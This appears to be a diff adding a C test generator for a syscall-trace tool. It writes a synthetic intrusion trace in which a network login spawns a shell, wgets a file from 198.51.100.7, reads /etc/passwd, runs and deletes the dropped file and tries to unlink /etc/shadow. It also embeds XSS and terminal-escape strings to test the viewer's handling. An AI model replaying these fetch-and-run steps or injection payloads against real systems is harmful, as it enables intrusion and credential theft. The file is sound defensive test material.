@@ -1,0 +1,151 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/*
+ * make-intrusion PATH CALLS: a whole trace in which somebody comes by the network, runs programs with hostile names,
+ * fetches a file, runs it and deletes it; and CALLS more calls of a process that only reads and writes.
+ */
+#include <netinet/in.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "build.h"
+#include "trace/file.h"
+
+#define SCRIPT "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
+
+enum { NR_WRITE = 1, NR_CONNECT = 42, NR_ACCEPT = 43, NR_CLONE = 56, NR_EXECVE = 59, NR_UNLINK = 87, NR_CHMOD = 90 };
+enum { NR_EXIT_GROUP = 231, NR_OPENAT = 257 };
+
+static struct build b;
+static struct trace_writer *writer;
+static int status;
+static guint written;
+
+/* What is made is written at once: a long trace is not held in memory. */
+static void flush(void)
+{
+    for (guint i = 0; i < b.records->len; i++)
+        status |= trace__write(writer, b.records->pdata[i], NULL);
+    written += b.records->len;
+    g_ptr_array_set_size(b.records, 0);
+}
+
+static void string(uint64_t addr, const char *text, uint8_t arg, uint8_t level)
+{
+    uint32_t n = (uint32_t)strlen(text) + 1;
+
+    build__snippet(&b, QBK_SNIP_MEM, addr, text, n, n, QBK_SNIP_STRING, arg, level);
+}
+
+static void run(uint64_t thread, const char *path, const char *const *argv, uint64_t result)
+{
+    uint64_t pointers[16] = {0}, call = build__enter(&b, thread, NR_EXECVE, 3, (uint64_t[]){0x1000, 0x2000, 0x3000});
+    unsigned n = 0;
+
+    string(0x1000, path, 0, 0);
+    for (; argv[n]; n++)
+        pointers[n] = 0x4000 + 0x1000 * (uint64_t)n;
+    build__snippet(&b, QBK_SNIP_MEM, 0x2000, pointers, (n + 1) * 8, (n + 1) * 8, 0, 1, 0);
+    for (unsigned i = 0; i < n; i++)
+        string(pointers[i], argv[i], 1, 1);
+    if (result == 0)
+        build__name(&b, thread, QBK_NAME_EXE, path);
+    build__return(&b, thread, call, QBK_END_RETURNED, result);
+}
+
+static void address(uint64_t addr, uint32_t ip, uint16_t port, uint8_t arg)
+{
+    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(ip)};
+
+    build__snippet(&b, QBK_SNIP_MEM, addr, &in, sizeof(in), sizeof(in), 0, arg, 0);
+}
+
+static void path_call(uint64_t thread, uint32_t nr, const char *path, unsigned arg, uint64_t rest, uint64_t result)
+{
+    uint64_t args[4] = {[2] = rest, [3] = 0644}, call;
+
+    args[0] = arg ? (uint64_t)-100 & 0xffffffff : 0x1000;
+    args[1] = arg ? 0x1000 : rest;
+    call = build__enter(&b, thread, nr, arg ? 4 : 2, args);
+    string(0x1000, path, (uint8_t)arg, 0);
+    build__snippet(&b, QBK_SNIP_CWD, 0, "/root", 5, 5, 0, 0xff, 0);
+    build__return(&b, thread, call, QBK_END_RETURNED, result);
+}
+
+static void comes(void)
+{
+    uint32_t len = sizeof(struct sockaddr_in);
+    uint64_t call = build__enter(&b, 1, NR_ACCEPT, 3, (uint64_t[]){3, 0x7000, 0x8000});
+
+    build__return(&b, 1, call, QBK_END_RETURNED, 4);
+    address(0x7000, 0xcb007109 /* 203.0.113.9 */, 50022, 1);
+    build__snippet(&b, QBK_SNIP_MEM, 0x8000, &len, 4, 4, 0, 2, 0);
+    call = build__enter(&b, 1, NR_CLONE, 5, (uint64_t[]){17, 0, 0, 0, 0});
+    build__return(&b, 1, call, QBK_END_RETURNED, 101);
+    build__thread(&b, 2, 101, "sshd")->parent_thread = 1;
+    ((struct qbk_thread *)build__last(&b))->ppid = 100;
+}
+
+static void contacts(uint64_t thread, uint64_t result)
+{
+    uint64_t call = build__enter(&b, thread, NR_CONNECT, 3, (uint64_t[]){5, 0x7000, 16});
+
+    address(0x7000, 0xc6336407 /* 198.51.100.7 */, 80, 1);
+    build__return(&b, thread, call, QBK_END_RETURNED, result);
+}
+
+static void works(void)
+{
+    uint64_t call;
+
+    run(2, "/bin/sh", (const char *const[]){"-sh", NULL}, 0);
+    ((struct qbk_thread *)build__thread(&b, 2, 101, "sh"))->why = QBK_THREAD_EXEC;
+    run(2, "/usr/bin/wget", (const char *const[]){"wget", "http://198.51.100.7/a b", SCRIPT, NULL}, (uint64_t)-2);
+    run(2, "/bin/wget", (const char *const[]){"wget", "http://198.51.100.7/a b", SCRIPT, NULL}, 0);
+    contacts(2, (uint64_t)-115);
+    contacts(2, 0);
+    path_call(2, NR_OPENAT, "evil\x1b[31m\n\xff\\" SCRIPT, 1, 01101 /* for writing, made, emptied */, 6);
+    path_call(2, NR_OPENAT, "/etc/passwd", 1, 0, 7);
+    path_call(2, NR_CHMOD, "/root/dropped", 0, 0755, 0);
+    run(2, "/root/dropped", (const char *const[]){"./dropped", "it's", "\xe2\x80\xae", "", NULL}, 0);
+    path_call(2, NR_UNLINK, "/root/dropped", 0, 0, 0);
+    path_call(2, NR_UNLINK, "/etc/shadow", 0, 0, (uint64_t)-13);
+    build__signal(&b, 2, 2, 0, QBK_SIGNAL_HANDLER);
+    build__text(&b, QBK_LOG, "a module's line");
+    call = build__enter(&b, 2, NR_EXIT_GROUP, 1, (uint64_t[]){3});
+    build__return(&b, 2, call, QBK_END_NORETURN, 0);
+    build__thread_exit(&b, 2, 3 << 8);
+}
+
+static void bulk(unsigned long calls)
+{
+    char data[64];
+
+    build__thread(&b, 3, 200, "busy");
+    memset(data, 'x', sizeof(data));
+    for (unsigned long n = 0; n < calls; n++) {
+        uint64_t call = build__enter(&b, 3, NR_WRITE, 3, (uint64_t[]){1, 0x1000, sizeof(data)});
+        build__snippet(&b, QBK_SNIP_MEM, 0x1000, data, sizeof(data), sizeof(data), 0, 1, 0);
+        build__return(&b, 3, call, QBK_END_RETURNED, sizeof(data));
+        flush();
+    }
+}
+
+int main(int argc, char **argv)
+{
+    writer = argc == 3 ? trace__create(argv[1], NULL, NULL) : NULL;
+    if (!writer)
+        return 2;
+    build__init(&b);
+    build__meta(&b, "qebek", "test", "string_limit", "4096", "fd_names", "yes", NULL);
+    build__guest(&b, "os", "linux", "release", "6.1 <b>", "how", "test", NULL);
+    build__thread(&b, 1, 100, "sshd");
+    comes();
+    works();
+    bulk(strtoul(argv[2], NULL, 10));
+    build__summary(&b);
+    flush();
+    status |= trace__finish(writer, NULL);
+    build__free(&b);
+    return status || written == 0 ? 1 : 0;
+}
